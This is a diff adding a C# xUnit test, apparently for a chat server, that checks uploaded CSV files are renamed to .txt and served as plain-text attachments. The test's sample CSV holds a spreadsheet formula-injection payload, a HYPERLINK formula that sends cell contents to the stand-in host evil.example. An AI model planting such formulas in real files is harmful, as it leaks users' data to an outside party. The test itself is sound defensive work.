@@ -124,3 +124,22 @@ public sealed class FilePolyglotTests(ServerFactory server) : IClassFixture<Serv
         Assert.Contains("holds a web page", await RefusalAsync(pdf, "invoice.pdf"));
     }
 }
+
+/// <summary>A text file is served as text, under a .txt name, whatever it was called: a .csv would open in a spreadsheet that runs its formulas.</summary>
+public sealed class TextFileServingTests(ServerFactory server) : IClassFixture<ServerFactory>
+{
+    [Fact]
+    public async Task A_CSV_with_a_formula_is_served_as_plain_text_under_a_txt_name()
+    {
+        var visitor = await server.NewVisitor();
+        var csv = Encoding.UTF8.GetBytes("order,total\n1,=HYPERLINK(\"https://evil.example/?\"&A1,\"refund\")\n");
+        var uploaded = await server.ClientWith(visitor.Token).PostAsync($"/chats/{visitor.GroupId}/files", FileSamples.Form(csv, "order-export.csv", "text/csv"));
+        var record = JsonDocument.Parse(await uploaded.Content.ReadAsStringAsync()).RootElement;
+        Assert.Equal("order-export.csv.txt", record.GetProperty("name").GetString());
+
+        var served = await server.ClientWith(null).GetAsync(record.GetProperty("url").GetString());
+        Assert.Equal("text/plain; charset=utf-8", served.Content.Headers.ContentType!.ToString());
+        Assert.Equal("attachment", served.Content.Headers.ContentDisposition!.DispositionType);
+        Assert.Equal("order-export.csv.txt", served.Content.Headers.ContentDisposition.FileNameStar);
+    }
+}
